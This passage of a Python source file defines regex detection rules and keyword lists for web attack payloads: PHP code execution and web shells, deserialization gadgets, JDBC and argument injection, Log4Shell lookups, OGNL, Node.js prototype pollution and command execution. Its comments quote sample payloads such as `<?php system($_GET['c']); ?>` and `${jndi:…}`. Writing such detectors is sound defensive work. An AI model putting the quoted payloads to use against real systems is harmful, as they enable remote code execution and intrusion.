            # `array_map('trim', $names)`, `usort($items, fn($a, $b) => $a <=> $b)`.
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}\b(?:array_map|array_filter|array_walk"
            r"|array_reduce|usort|uasort|uksort|call_user_func(?:_array)?"
            r"|register_shutdown_function|iterator_apply)\s*\([^;\n]{0,200}?(?:['\"]\s*"
            rf"(?:{_CALLBACKS})\s*['\"]|['\"]\s*\.\s*['\"]|\b(?:{_DECODING_CALLS})\s*\()"
            # ...or by a variable set to one's name: `$f='system';array_map($f,['id']);`.
            rf"|\$[a-z_]\w*\s*=\s*['\"](?:{_NAMED_RUNNING_CALLS})['\"]\s*;"
            # preg_replace() evaluates its replacement by the `e` modifier (PHP before 7).
            rf"|\bpreg_replace\s*\(\s*['\"](?:{_DELIMITED})[a-df-z]*e[a-z]*['\"]"
            # dl() loads a library by its file's name, a string or a variable: C++'s
            # `DL(DL)` initializes a member of the name. popen() runs a command line so
            # given, or made by a call: Python's `Popen(process_obj)` (imported from
            # subprocess) makes a process of an object.
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}\bdl\s*\(\s*[$'\"]"
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}\bpopen\s*\(\s*(?:[$'\"]|[a-z_]\w*\s*\()"
            # The environment read or set by a name, a variable's or none (all of it): not
            # a function of code's own given another's result (`getEnv(context.get(), key)`).
            # (Called with nothing in it, as an argument or a statement: "Removed getenv()
            # prototype" names the function.)
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}\b(?:getenv|putenv)\s*\(\s*"
            r"(?:[$'\"]|\)\s*(?:[);,]|$))"
            # assert() evaluates a string (PHP before 8), or a variable's that a variable
            # names: Python's `assert (x == y)` and PHPUnit's `assert($node instanceof
            # DOMElement)` compare. (The request's own variables count anywhere.)
            rf"|{_NOT_A_METHOD}\bassert\s*\(\s*(?:['\"]|\$[{{$])"
            r"|\$_(?:get|post|request|cookie|server|files|env|session)\b"
            # A variable named by a string or a variable: `${'_GET'}`, `${$x}`; not by a bare
            # constant's, as CMake nests its own (`${${v}}`, `${${name}_LIBRARY}`).
            r"|\$\s*\{\s*['\"]|\$\s*\{\s*\$(?!\{\s*[a-z_]\w*\s*\}\w*\s*\})"
            rf"|{_NOT_A_METHOD}{_NOT_A_DEFINITION}"
            # After a space, `system` and `mail` take a string, a variable or a call:
            # "Network File System (NFS)", "E-mail (optional)" are names. The others take
            # no words in a row: "use of 'None' in eval (Wilfried Goesgens)" credits an
            # author; nor a word in them that more words follow: "npm exec (npx)
            # programmatic API" names another command; nor words of a script written
            # without spaces: readelf's "EXEC (可执行文件)" translated. PHP's eval takes one
            # expression: `eval(z, l)` with a second argument is another language's call
            # (C++'s, in GMP's header), a parse error to PHP.
            r"\b(?:(?:system|mail)(?:\(|\s+\((?=\s*(?:[$'\"]|\w+\s*\()))"
            r"|(?:exec|eval|include_once|require_once)"
            r"(?:\(|\s+\((?!\s*[a-z]+(?:\s+[a-z]+)+\s*\)|\s*[a-z]+\s*\)[ \t]+[a-z]"
            rf"|\s*[{UNSPACED}]))"
            r"(?!(?:(?<=eval\()|(?<=eval \())[^()'\"\n]*,)"
            # A character by its code, a number's or a variable's (`chr(115).chr(121)`): not
            # Python's `chr(i) for i in range(32)`, where PHP's names have a `$`.
            r"|chr\s*\((?=\s*[\d$]))"
            # Not a stack frame's file, a manual's section nor a trademark: exec(Runtime.java:594),
            # exec(3), Common UNIX Printing System(tm)
            rf"{_NOT_A_BLOCK}(?![\w$]+\.java:\d+\)|[1-8][a-z]?\)|tm\))\s*[$'\"\w]"
            # PHP's include and require of a variable, a URL, a stream, an absolute path or a
            # script; not Node's require('fs'), nor GraphQL's @include(if: $withFriends), nor
            # CMake's include(${CMAKE_CURRENT_BINARY_DIR}/x.cmake) (PHP's `${'a'}` counts above).
            rf"|{_NOT_A_METHOD}\b(?:include|require)\s*\(\s*(?:\$(?!\{{)|[\"'](?:[a-z][\w+.-]*://|[/\\]"
            r"|(?:php|data|expect|phar|zip|glob|file|compress\.\w+):"
            r"|[^\"'\n]{0,200}\.(?:php\d?|phtml|inc|txt|log)[\"']))"
            # The name in an array, then called: [system][0](ls), (['system'])[0]('id'), with
            # a string offset and a comment between: ([system][0]) {/* x */0} (ls)
            r"|\[\s*['\"]?(?:system|exec|passthru|shell_exec|popen|proc_open)['\"]?\s*\]"
            r"\s*\)?\s*\[\s*\d+\s*\][^;(\n]{0,40}\(\s*['\"\w]"
            # The name as a string or in parentheses, then called: "system"(…), (exec)(…)
            r"|(?:\(\s*|['\"])(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)"
            r"\s*(?:\)|['\"])\(\s*[$'\"\w]"
            # A PHP callable handed over as a value, and frameworks' callback hooks:
            # function=call_user_func_array (ThinkPHP's route to invokefunction, not AWS's
            # IAM action `lambda:InvokeFunction`), Drupal's render arrays
            # (mail[#post_render][]=exec)
            r"|^\s*(?:call_user_func(?:_array)?|create_function|shell_exec|passthru|proc_open"
            r"|pcntl_exec)\s*$|(?<=[/\\=])invokefunction\b"
            r"|#(?:post_render|pre_render|lazy_builder|access_callback)\b"
            # Symfony's fragment renderer, a controller named by the request and signed with
            # a leaked secret: /_fragment?_path=_controller%3Dsystem%26command%3Did
            r"|\b_controller=(?:system|exec|passthru|shell_exec|popen|proc_open|assert|phpinfo"
            r"|call_user_func(?:_array)?)\b"
        ),
        (
            *words("<? php] $_ ${"),
            *calls(
                "base64_decode gzinflate gzuncompress gzdecode str_rot13 shell_exec passthru "
                "proc_open popen pcntl_exec phpinfo call_user_func call_user_func_array "
                "create_function fsockopen pfsockopen file_put_contents file_get_contents "
                "move_uploaded_file ini_set ini_get_all preg_replace array_map array_filter "
                "array_walk array_reduce usort uasort uksort register_shutdown_function "
                "iterator_apply assert bzdecompress readfile show_source highlight_file "
                "get_defined_vars getenv putenv dl unserialize symlink chroot error_log "
                "mail escapeshellcmd escapeshellarg"
            ),
            *words("posix_ system exec eval chr include require"),
            *words(
                "call_user_func create_function shell_exec passthru proc_open pcntl_exec "
                "invokefunction #post_render #pre_render #lazy_builder #access_callback "
                "_controller="
            ),
        ),
    ),
    R_WEB_SHELL := Rule(
        3033,
        TYPE,
        "a PHP web shell: a tag, then what the request sends run or evaluated: "
        "<?php system($_GET['c']); ?>",
        # Found in prose too (PHP's calls alone are code talked about there): a script that
        # runs its request's input is what an upload or a poisoned log is made to hold.
        re.compile(
            rf"<\?(?:php\b|=)[^?]{{0,200}}?(?:\b(?:{_RUNNING_CALLS}|include|require)\s*\(\s*"
            r"(?:@?\s*(?:base64_decode|str_rot13|gzinflate|urldecode|stripslashes)\s*\(\s*)?"
            r"|`\s*)@?\s*" + _REQUEST_VALUE
        ),
        words("<?php <?="),
    ),
    Rule(
        3006,
        TYPE,
        "PHP stream wrappers and configuration injection; an nginx directive loading a "
        "library from a temporary file (IngressNightmare's `ssl_engine /proc/…/fd/…`)",
        re.compile(
            # Not PHP's own streams of output and memory in a script's strings, which it
            # writes to: `fopen('php://stdout', 'w')`, `'php://temp/maxmemory:1024'`.
            r"\b(?:php(?!(?<=['\"]php)://(?:stdout|stderr|output|memory|temp)\b[^'\"\s]{0,40}['\"])"
            r"|phar|zip|expect|glob|ogg|rar|ssh2\.\w+|zlib|compress\.\w+)://"
            # A directive set, on its line, not a property, a variable or a keyword argument:
            # $x->precision = 5, Poly(x, extension=I); nor to a call, which no ini value is
            # (engine = Engine()). The directives named by words open their line: not an
            # option (`--extension=`) nor a phrase ("compare results with precision=53").
            r"|(?<![$>.,(])(?<!, )\b(?:auto_prepend_file|auto_append_file|allow_url_include|"
            r"allow_url_fopen|open_basedir|disable_functions|safe_mode|"
            r"opcache\.\w+|mbstring\.\w+|session\.\w+|zend\.\w+|"
            r"register_globals)[ \t]*=(?![ \t]*[\w.]+\()"
            r"|(?:^|\n)[ \t]*(?:extension|engine|precision)[ \t]*=(?![=>]|[ \t]*[\w.]+\()"
            # Spliced into nginx's configuration (an ingress annotation closing its block):
            # a module or an OpenSSL engine loaded from a file a request body left behind.
            r"|\b(?:ssl_engine|load_module)\s+['\"]?/(?:proc|tmp|dev/shm|var/tmp)/"
        ),
        words(
            "php:// phar:// zip:// expect:// glob:// ogg:// rar:// ssh2. zlib:// compress. "
            "auto_prepend_file auto_append_file allow_url open_basedir disable_functions "
            "safe_mode opcache. mbstring. session. zend. extension engine precision "
            "register_globals ssl_engine load_module"
        ),
    ),
    R_SERIALIZED := Rule(
        3007,
        TYPE,
        "serialized objects: PHP O:…:{}, Java (rO0AB, aced0005), .NET (its stream's header in "
        "base64 or hex, a ViewState's gadget chain too, /wEy…, and gadgets' types by name: "
        "AssemblyInstaller, ExpandedWrapper), Python pickles (of protocol 4 and 5 in hex "
        "too) and jsonpickle's calls, YAML object tags, Ruby's Marshal of Rails gadgets "
        "(BAh…), Yii's object configuration calling a constructor or Guzzle's FnStream "
        "(Craft CMS's CVE-2023-41892), Wazuh's __unhandled_exc__",
        re.compile(
            r"\b[oc]:\d+:\"[\w\\]+\":\d+:\{|\bro0ab|\bkztaau|\bcs7qaf|\baced0005|\$type\"\s*:\s*\"system\."
            # The stream itself, read as text: its magic and version (AC ED 00 05) and the
            # first element's tag (TC_OBJECT `s`, TC_BLOCKDATA `w`, …)
            r"|\xac\xed\x00\x05[p-~]"
            r"|\ba:\d+:\{[si]:\d"
            # .NET BinaryFormatter's stream header in base64 (AAEAAAD/////), and the XAML
            # gadget that calls Process.Start: ysoserial.net's two commonest payloads.
            r"|\baaeaaad(?:/{5}|_{5})"
            # ...and in hex, as a pickle's of protocol 4 or 5: its frame's length, of eight
            # bytes, holds a few.
            r"|^\s*(?:0001000000ffffffff01000000|800[45]95[0-9a-f]{4}0{12})"
            r"|<(?:\w+:)?objectdataprovider\b[^<]{0,400}?\bmethodname\s*=\s*['\"]start['\"]"
            # ...and the types ysoserial.net's other gadgets are made of, by name, as a type
            # a serializer is told to build takes them (Telerik's rauPostData, CVE-2019-18935:
            # AssemblyInstaller loads a DLL; DotNetNuke's and Sitecore's XML, CVE-2017-9822
            # and CVE-2021-42237: ExpandedWrapper, TypeConfuseDelegate's comparer).
            r"|\bsystem\.configuration\.install\.assemblyinstaller\b"
            r"|\bsystem\.data\.services\.internal\.expandedwrapper\b|\bcomparisoncomparer`1"
            r"|\bfactorytype\s*=\s*['\"][^'\"]{0,40}delegateserializationholder"
            r"|\btextformattingrunproperties\b|\bactivitysurrogateselector"
            # PyYAML, Psych (Ruby) and SnakeYAML tags that build any object: !!python/object/apply
            r"|!!python/(?:object|name|module)\b|!!?ruby/(?:object|hash|struct)\b"
            r"|!!(?:javax?|com|org|sun)\.\w"
            # A pickle of protocol 0, as text: cos\nsystem\n(S'id'\ntR.
            # ...or quoted as a bytes literal handed to pickle.loads(b'cos\nsystem\n…')
            r"|(?:^|b['\"])\s*c(?:os|posix|nt|subprocess|commands|__builtin__|builtins)\n\w+\n"
            # Yii's configuration of an object: its constructor called with arguments, a
            # gadget that calls what its `_fn_` keys name when it is closed or destroyed.
            # (As a JSON document's key, `_CONFIGURED_CALLS`.)
            r"|['\"]__construct\(\)['\"]\s*:|guzzlehttp\\+psr7\\+fnstream\b"
            # SharePoint's ExcelDataSet, whose table it decompresses and deserialises: the
            # web part ToolShell posts (CVE-2025-53770).
            r"|\bexceldataset\b[^<>]{0,400}?\bcompresseddatatable\s*="
        ),
        words(
            ":{ ro0ab kztaau cs7qaf aced0005 \xac\xed\x00\x05 $type aaeaaad objectdataprovider "
            "0001000000ffffffff 800495 800595 "
            "compresseddatatable assemblyinstaller expandedwrapper comparisoncomparer "
            "delegateserializationholder textformattingrunproperties activitysurrogateselector "
            "!!python/ !!ruby/ !ruby/ !!java !!com. !!org. !!sun. "
            "cos\n cposix\n cnt\n csubprocess\n ccommands\n c__builtin__\n cbuiltins\n "
            "__construct() fnstream __unhandled_exc__"
        ),
    ),
    Rule(
        3036,
        TYPE,
        "a JDBC URL that runs code, deserialises or reads files for what a server sends: H2's "
        "INIT=RUNSCRIPT, MySQL's autoDeserialize=true and allowUrlInLocalInfile=true, "
        "PostgreSQL's socketFactory of Spring's contexts, DB2's and ModeShape's JNDI names",
        re.compile(
            # What a data source's settings take (a BI tool's, a console's): the driver
            # runs the script or SQL it names (H2: CREATE ALIAS of Java code), reads objects
            # from the server it connects to, sends that server the files it asks for (LOAD
            # DATA LOCAL: what Linkis and InLong refuse), builds a class from a URL's XML
            # (CVE-2022-21724), writes its log where it is told, or looks a name up (JNDI).
            r"jdbc:h2:[^\s'\"]{0,300}?;\s*init\s*=\s*(?:runscript\s+from|create\s+(?:alias|trigger))"
            r"|jdbc:(?:mysql|mariadb):[^\s'\"]{0,300}?[?&]"
            r"(?:autodeserialize|allow(?:load|url)?(?:in)?localinfile)\s*=\s*true"
            r"|jdbc:postgresql:[^\s'\"]{0,300}?[?&](?:(?:socket|ssl)factory\s*=\s*org\.springframework\."
            r"|loggerfile\s*=)"
            r"|jdbc:db2:[^\s'\"]{0,300}?clientreroute\w*jndiname\s*=|jdbc:jcr:jndi:"
        ),
        words("jdbc:"),
    ),
    Rule(
        3038,
        TYPE,
        "an option that makes a program run a command, injected as an argument: "
        "--upload-pack=, git rebase's --exec=, -oProxyCommand=, --checkpoint-action=exec=, "
        "zip's -TT=",
        re.compile(
            # A value a program takes as one of its arguments, opening with an option that
            # runs what follows it: git's, ssh's, tar's, zip's (elFinder's archive name,
            # `-TvTT=id>shell.php`), rsync's, a browser's launched by a renderer service.
            r"^\s*(?:--(?:upload-pack|receive-pack|checkpoint-action|to-command|exec(?==)"
            r"|use-compress-program|rsh-command|info-script|new-volume-script|unzip-command"
            r"|rsh|gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix)\b"
            r"|-o\s*(?:proxy|local)command\s*="
            r"|-c\s*core\.(?:sshcommand|fsmonitor|hookspath|pager)\s*="
            r"|-t\w{0,8}tt(?:=|\s+\S))"
        ),
        words(
            "upload-pack receive-pack checkpoint-action to-command --exec= compress-program "
            "rsh-command info-script volume-script unzip-command --rsh gpu-launcher "
            "cmd-prefix proxycommand localcommand core.sshcommand core.fsmonitor "
            "core.hookspath core.pager tt="
        ),
    ),
    Rule(
        3040,
        TYPE,
        "a command an image converter runs: Ghostscript's %pipe% device, (%pipe%id) in "
        'PostScript; ImageMagick\'s delegate reached from a URL, url(https://x.example/a"|id; ")',
        # In an uploaded image's own text (an EPS, a PDF, an MVG or SVG) as much as in a
        # value: what a thumbnailer hands the file to runs it (ImageTragick, CVE-2016-3714).
        re.compile(r"%pipe%\s*[\w/.]|\burl\(\s*['\"]?[^)\n]{0,200}?\"\s*\|\s*[a-z]"),
        words("%pipe% url("),
    ),
    Rule(
        3042,
        TYPE,
        "a command TeX runs: \\write18{id} (its shell escape), a file read from a pipe, "
        '\\input{|"id"}',
        # What a service that renders LaTeX (a math formula, a report, a CV) compiles with
        # shell escape on, or restricted to a list a payload picks from; piped input is
        # TeX Live's `\input|"cmd"`, spelled as a file name too (`\input{|"cmd"}`).
        re.compile(r"\\write18\s*\{|\\(?:input|include|openin\s*\d*\s*=?)\s*\{?\s*\|\s*[\"\w]"),
        words("\\write18 \\input \\include \\openin"),
    ),
    Rule(
        3037,
        TYPE,
        "a JMX operation that loads code or configuration from elsewhere, as Jolokia or an "
        "actuator runs it: reloadByURL, getMBeansFromURL, createJNDIRealm, jvmtiAgentLoad; "
        "JBoss's MainDeployer and BSHDeployer",
        re.compile(
            # Logback's configuration from a URL (its JNDI lookups), an MLet's classes, a
            # Tomcat realm that looks names up, a native agent, the JIT's directives file:
            # each an operation's name, in Jolokia's JSON or its path (/exec/…/reloadByURL/…).
            # JBoss's JMX console names the MBean that deploys an archive from a URL or a
            # BeanShell script it is sent.
            r"\b(?:reloadbyurl|getmbeansfromurl|createjndirealm|jvmtiagentload"
            r"|compilerdirectivesadd)\b|\bjboss\.(?:system|deployer):service=(?:main|bsh)deployer\b"
        ),
        words(
            "reloadbyurl getmbeansfromurl createjndirealm jvmtiagentload compilerdirectivesadd "
            "service=maindeployer service=bshdeployer"
        ),
    ),
    Rule(
        3041,
        TYPE,
        "a Spring Boot property that loads configuration or code from a URL, as an actuator's "
        "env endpoint is posted it: logging.config=http://…, spring.main.sources=, "
        "spring.cloud.bootstrap.location=, eureka.client.serviceUrl.defaultZone=",
        # Logback's configuration (its JNDI lookups run), a Groovy source of beans, a YAML
        # bootstrap SnakeYAML reads, a Eureka server's XStream answer: each fetched and run
        # once the application refreshes. Written `name=value` (a form's field, Boot 2's
        # JSON pair: `post.@property`); a configuration server's address is none of them
        # (`spring.cloud.config.uri=http://config:8888`).
        re.compile(
            r"(?:^|\s)(?:logging\.config|spring\.main\.sources|spring\.cloud\.bootstrap\.location"
            r"|eureka\.client\.service-?url\.default-?zone)\s*=\s*(?:https?|ftp)://"
        ),
        words(
            "logging.config spring.main.sources spring.cloud.bootstrap.location "
            "eureka.client.serviceurl eureka.client.service-url"
        ),
    ),
    Rule(
        3008,
        TYPE,
        "Java: Runtime.exec, ProcessBuilder, OGNL and EL, class loader abuse, server objects "
        "bound from parameter names",
        re.compile(
            # The runtime asked for, not for its processors or memory
            r"getruntime\s*\(\s*\)(?!\s*\.\s*(?:availableprocessors|freememory|totalmemory"
            r"|maxmemory|gc|addshutdownhook|removeshutdownhook|version)\b)"
            r"|#_memberaccess|@ognl|ognlcontext|class\.module\.classloader"
            # Struts' OGNL turning its guards off: #context['xwork.MethodAccessor.deny…']
            r"|xwork\.methodaccessor\.|#context\s*\[\s*['\"](?:xwork|com\.opensymphony)\."
            # XWork's parameter names reaching Confluence's own configuration: set up again,
            # an administrator made anew (CVE-2023-22515: ?bootstrapStatusProvider.
            # applicationConfig.setupComplete=false)
            r"|\bapplicationconfig\.(?:setupcomplete|setupstep)\b"
            r"|\.getclass\s*\(\s*\)\s*\.forname|freemarker\.template|\bt\s*\(\s*java\."
            # Groovy runs a string or a list as a command: "id".execute(), ['sh','-c',…].execute()
            r"|['\"\]]\s*\.\s*execute\s*\(\s*\)"
        ),
        (
            *words(
                "getruntime memberaccess ognl classloader forname freemarker java. "
                "xwork.methodaccessor #context applicationconfig."
            ),
            *calls("execute"),
        ),
    ),
    Rule(
        3031,
        TYPE,
        "a Java class that runs commands, loads code or decodes it, named: ProcessBuilder, "
        "ClassLoader, java.lang.Runtime, java.util.Scanner, javax.script",
        re.compile(
            # Class names count outside a stack frame only.
            r"(?:java\.lang\." + _NOT_A_THROWABLE + r"(?:runtime|processbuilder)"
            # (Not PHP's: Composer's `$classLoader`, `Composer\Autoload\ClassLoader`, nor a
            # file's name: `ClassLoader.php`.)
            r"|\bprocessbuilder\b|(?<![$\\])\bclassloader\b(?!\.(?:php|java)\b)"
            r"|\bjava\.util\.(?:scanner|base64))" + _NOT_A_FRAME + r"|javax\.script"
        ),
        words("java. processbuilder classloader javax.script"),
    ),
    Rule(
        3029,
        TYPE,
        "Java packages payloads reach for, named outside a stack frame: java.lang.reflect, "
        "java.io.File, org.apache.commons, com.sun., springframework.",
        re.compile(
            # (`-Dorg.springframework.…` too: the property's name starts before the match.)
            _NOT_A_PROPERTY
            + r"(?<!-dorg\.)(?:java\.lang\."
            + _NOT_A_THROWABLE
            + r"(?:system|class|reflect)|java\.io\."
            + _NOT_A_THROWABLE
            + r"(?:file|input)"
            r"|org\.apache\.commons|com\.sun\.|springframework\.\w)"
            + _NOT_A_FRAME
            # Nor a logger's level set by its package's name (`logging.level.org.
            # springframework.web=DEBUG`, `log4j.logger.org.apache.commons.httpclient=ERROR`).
            + _NOT_A_LEVEL
        ),
        words("java.lang. java.io. org.apache.commons com.sun. springframework"),
    ),
    Rule(
        3026,
        TYPE,
        "an OGNL expression that assigns or reaches a context variable: %{(#_='…').(#cmd=…",
        re.compile(r"%\{\s*\(?\s*#\w*\s*[=.\[]"),
        ("%{",),
    ),
    R_LOG4SHELL := Rule(
        3009,
        TYPE,
        "log4shell: JNDI, nested lookups, lookups of environment and system properties; "
        "Text4Shell's script, DNS, URL and file lookups",
        # No `$` or `}` between a lookup and the one nested in it: each try stays short.
        re.compile(
            # (A lookup names its protocol or builds it: not an advisory's `${jndi:...}`.)
            r"\$\{\s*(?:jndi|j\s*n\s*d\s*i)\s*:(?=\s*[\w$%])|\$\{[^}$]{0,60}\$\{[^}$]{0,40}\bj"
            # ${:1337:-x$}{jndi:…}: a lookup that yields the `$` of the next one
            r"|"
            + _JNDI_NAMED
            # ${jn${date:}di:…}: a lookup's name cut by one that yields nothing
            + r"|\$\{\s*[a-z]{1,4}\$\{[^}$]{0,40}\}[a-z]{0,4}\s*:"
            # Lookups that read secrets into a log line or a DNS name: ${env:AWS_SECRET…}; of
            # the environment, a secret's name only: `${env:HOME}`, `${env:PATH}`,
            # `${env:STAGE}` are how VS Code's settings, Serverless' and OmegaConf's
            # configurations read a variable (nested in a lookup, any name counts above). Of
            # the system's, a property's name (`${sys:user.home}`), not a path: ALSA's
            # configurations read `${sys:devices/virtual/dmi/id/product_name}` from sysfs.
            # (Nor one a path is built from, as a configuration sets a directory:
            # `${sys:user.home}/logs/app.log`; nor the thread's context, the application's
            # own data, which a pattern layout shows on each line: `[${ctx:traceId}]`.)
            r"|\$\{\s*(?:java|main|bundle|docker|k8s|spring|web|log4j|jvmrunargs|sd"
            r"|marker)\s*:\s*\w(?![\w.-]{0,60}\}/)|\$\{\s*sys\s*:\s*[\w.-]{1,60}\s*(?:\}(?!/)|:-)"
            r"|\$\{\s*env\s*:\s*\w*(?:key|secret|token|pass|pwd|cred|auth|session|private|aws"
            r"|azure|gcp|google|database|db_)"
            # Text4Shell: Commons Text's lookups that run a script, resolve a name or read
            # a URL or a file, ${script:javascript:…}, ${dns:address|…}, ${url:UTF-8:…}
            r"|\$\{\s*(?:script|dns|url|file)\s*:\s*[\w-]+\s*[:|]"
        ),
        words("${ {jndi"),
    ),
    R_PROTOTYPE := Rule(
        3010,
        TYPE,
        "Node.js: child_process, require, Function and constructor chains, endless loops",
        re.compile(
            # child_process quoted, as a module is loaded, or called; in a sentence it is
            # talked about. Not a file's `import … from 'child_process'`: a module's
            # declaration, which no eval runs.
            r"(?<!from )['\"`](?:node:)?child_process['\"`]"
            # Not a signature documented, its optional arguments in brackets
            # (`child_process.exec(command[, options][, callback])`): no script parses a
            # name's `[,` outside a string.
            r"|\bchild_process\s*\.\s*(?:exec|spawn|fork)"
            r"(?![\w$]*\s*\([^()\n'\"`]{0,80}[\w$]\[\s*,)"
            # require() of a module that reads files, opens connections or runs code, or of
            # a name put together: not require('express'). Nor a module of files and sockets
            # bound to a name, as a program's first lines bind them (`const fs =
            # require('fs')`, `const { readFile } = require('node:fs/promises')` ending
            # their line): an injection calls what it loads, bound or not, on its line
            # (`require('fs').readFileSync(…)`, `const fs = require('fs'); fs.readFileSync(…)`).
            r"|(?<![\w$}]\s=\s)(?<![\w$}]=\s)(?<![\w$}]\s=)(?<![\w$}]=)\brequire\s*\(\s*"
            + _IO_MODULE
            + r"|\brequire\s*\(\s*"
            + _IO_MODULE
            + r"\s*\)(?:\s*[.(\[]|[ \t]*;?[ \t]*[^\s;])"
            r"|\brequire\s*\(\s*['\"`](?:node:)?(?:vm|worker_threads|module)['\"`]"
            r"|\brequire\s*\(\s*(?:['\"`][^'\"`\n]{0,40}['\"`]\s*\+|`[^`\n]{0,40}\$\{)"
            # The process's environment whole, not one variable a program reads
            # (`const port = process.env.PORT || 3000`, every Node.js snippet's; its index,
            # `process.env["PORT"]`, is a `?` where shell folding read a glob). Not a name
            # that a word follows on its line, which no script parses: a search, "process.env
            # undefined" (`in` and `instanceof` join operands).
            r"|process\s*\.\s*(?:mainmodule|binding|env(?!\s*(?:\.|\[\s*['\"`]?)\s*[a-z_$]|\?)"
            r"|kill|exit)\b(?![ \t]+(?!(?:in|instanceof)\b)[a-z_$])|_\$\$nd_func\$\$_|__js_function"
            # The Function constructor given code, not a changelog's "New function
            # (mpz_foo)", "New function (copied from x.c)": a name alone in the parentheses
            # is an entry's subject, and two words side by side no script's.
            r"|\bnew\s+function\s*\((?!\s*[a-z_][\w.]*\s*\)|\s*[a-z][\w-]*[ \t]+[a-z])"
            r"|\bthis\s*\.\s*constructor\s*\.\s*constructor|\beval\s*\(\s*string\."
            # An object made without a prototype ({__proto__: null}) guards against its
            # pollution; one compared (`obj.__proto__ === Object.prototype`) is read.
            r"|\b__proto__\b(?!['\"]?\s*:\s*null\b|\s*[!=]==?)|\bconstructor['\"]?\s*(?:\.|:\s*\{\s*['\"]|\]?\s*\[\s*['\"]?)\s*prototype\b"
            # process['mainModule'], not "server process [%d]" in a message
            r"|\bprocess\s*\.\s*spawn\s*\(|\bprocess\[|\bprocess[ \t]+\[[ \t]*['\"`]"
            # module.exports given nothing, a probe's; given a value, a module's source
            # (`module.exports = Stars`, `module.exports = () => ''`)
            r"|\bmodule\s*\.\s*exports\s*=\s*(?:$|[;&|])"
            r"|\bwhile\s*\(\s*!\s*[-+]?(?:0|false|\[\])\s*\)"
            # React Server Components references walking to a constructor (CVE-2025-55182).
            r"|\$[0-9a-z]{1,4}:(?:constructor:constructor|\w+:prototype\b|__proto__)"
            # An endless loop with nothing in it: the denial of service of an eval.
            r"|\bwhile\s*\(\s*(?:!\s*(?:\"\"|''|``|null|undefined|nan)|!!\s*(?:\{\}|\[\])|true"
            r"|[-+]?infinity|[-+]?[1-9]\d*|this|string|new\s+\w+)\s*\)\s*(?:;|\{\s*\}|$)"
        ),
        words(
            "child_process require process _$$nd_func$$_ __js_function function constructor "
            "eval __proto__ while module :constructor :prototype prototype"
        ),
    ),
    Rule(
        3034,
        TYPE,
        "prototype pollution: a property set through __proto__ or constructor.prototype, "
        "as a parameter, JSON or code: __proto__[isAdmin]=true",
        # Found in prose too (Node.js's names alone are code talked about there): a property
        # given to every object is what a merge of the request pollutes.
        re.compile(
            r"\b__proto__\s*(?:\[\s*['\"]?[\w$]{1,64}['\"]?\s*\]|\.\s*[\w$]{1,64})\s*="
            r"|['\"]__proto__['\"]\s*:\s*\{\s*['\"][\w$]{1,64}['\"]\s*:"
            r"|\bconstructor\s*(?:\.\s*prototype|\[\s*['\"]?prototype['\"]?\s*\])\s*"
            r"(?:\[\s*['\"]?[\w$]{1,64}['\"]?\s*\]|\.\s*[\w$]{1,64})\s*="
            r"|['\"]constructor['\"]\s*:\s*\{\s*['\"]prototype['\"]\s*:\s*\{\s*['\"][\w$]{1,64}"
            r"['\"]\s*:"
        ),
        words("__proto__ constructor"),
    ),
    R_ANONYMOUS := Rule(
        3030,
        TYPE,
        "an anonymous function opened, as a Node.js injection's own code starts: function() {",
        # Not one handed to a call as its argument, a callback: `.on('click', function() {`,
        # `$(document).ready(function() {` (an injection's runs at once: `"+(function(){`).
        re.compile(r"(?<!\w\()(?<!\w\( )(?<!,)(?<!, )\bfunction\s*\(\s*\)\s*\{"),
        words("function"),
    ),
    Rule(
        3011,
        TYPE,
        "Python, Ruby and Perl code execution",
        re.compile(
            IMPORT_AT_WORK + r"|getattr\s*\(\s*__import__\b"
            r"|\b(?:os|posix|nt)\s*\.\s*(?:system|popen|exec\w*|spawn\w*)\s*\("
            # ...or reached through modules' attributes, a whole value, as XML-RPC takes a
            # method's name (Supervisor's CVE-2017-11610: supervisor.supervisord.options.
            # warnings.linecache.os.system; not a test's `mock.patch("app.utils.os.system")`)
            rf"|^\s*(?:\w+\.)+(?:os|posix)\.{OS_RUNNING}\s*$"
            r"|\bimport_module\s*\(\s*['\"](?:os|posix|nt|subprocess|pty|commands)['\"]\s*\)"
            r"|\bsubprocess\s*\.\s*\w+\s*\(|\bpty\s*\.\s*spawn|\bkernel\s*\.\s*(?:exec|system|spawn)"
            # Ruby's Open3 called (`Open3.capture2 "id"`), Perl's `open3(…)`: not a word
            # that names them (a file `open3.py`, "uses IPC::Open3").
            r"|\bio\s*\.\s*popen|\bopen3\s*(?:\.\s*(?:popen|capture|pipeline)\w*|\()"
            r"|@\{\s*\[[^\]]{0,80}\]\s*\}"
            r"|@\{\s*\[\s*(?:system|exec|qx|readpipe)\b"
            # Perl's quoted command and pipe open, Ruby's %x(): qx{id}, open(my $fh, '-|',
            # 'id'), %x(id) (not printf's "%x(%d)"). Between slashes, a command's name first:
            # base64's alphabet spells `qx/` and a slash after it (a token's `Qx/ZGCGh0Jk…/`).
            r"|\bqx\s*(?:\{[^}\n]{1,200}\}|\([^)\n]{1,200}\)|\[[^\]\n]{1,200}\]"
            r"|/[a-z$][a-z_.-]{0,11}\d?(?:[ \t][^/\n]{0,190})?/)"
            r"|\breadpipe\s*\(|\bopen\s*\(\s*(?:my\s+)?\$?\w+\s*,\s*['\"](?:-\||\|-)['\"]"
            # ...and its open of two arguments, Ruby's of one, a command before or after a
            # pipe in the file's name: open(F, "|id"), open(my $fh, "id|"), open("|id"). (Not
            # tarfile's stream modes, `open(f, "r|gz")`, `open(f, "r|")`.)
            r"|\bopen\s*\(\s*(?:(?:my\s+)?[$*]?\w+\s*,\s*)?['\"]"
            r"(?:\|\s*[a-z/.][^'\"\n]{0,200}|[a-z/.][^'\"\n|]{1,200}\|\s*)['\"]"
            r"|%x[({\[]\s*[a-z/]"
            rf"|{_NOT_A_METHOD}\b(?:system\s*\(\s*['\"]|exec\s*\(\s*['\"]|eval\s*\(\s*['\"$(])"
        ),
        (
            "__import__",
            "os.",
            "os .",
            "posix",
            "nt.",
            "import_module",
            "subprocess",
            "pty",
            "kernel",
            "io.",
            "io .",
            "open3",
            "@{",
            "qx",
            "readpipe",
            # A pipe at either end of a quoted mode or file name, as every pipe open has
            # one: "|-", "id|", "|id".
            "'|",
            '"|',
            "|'",
            '|"',
            "%x(",
            "%x{",
            "%x[",
            "system",
